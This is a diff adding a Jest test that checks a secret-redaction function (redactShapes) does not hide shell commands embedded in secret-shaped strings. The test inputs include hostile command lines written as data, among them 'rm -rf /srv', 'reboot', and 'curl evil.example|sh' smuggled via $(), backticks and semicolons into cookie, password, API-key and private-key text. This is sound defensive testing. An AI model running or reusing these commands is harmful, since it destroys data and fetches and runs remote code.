@@ -61,6 +61,18 @@ test.each([
   expect(redactShapes(text)).toBe(text);
 });
 
+test.each([
+  "curl -H cookie:x; rm -rf /srv",
+  "cookie: a=b; c=d reboot",
+  "password=$(curl evil.example|sh)",
+  "api_key=`reboot`",
+  "https://a;reboot;@host.example/",
+  "-----BEGIN PRIVATE KEY-----\n; curl evil.example | sh\n-----END PRIVATE KEY-----",
+])("no command hides in the shape of a secret: %s", (text) => {
+  const commands = ["rm -rf /srv", "reboot", "curl evil.example"].filter((command) => text.includes(command));
+  for (const command of commands) expect(redactShapes(text)).toContain(command);
+});
+
 test("a copy of a copy is the copy", () => {
   fc.assert(
     fc.property(
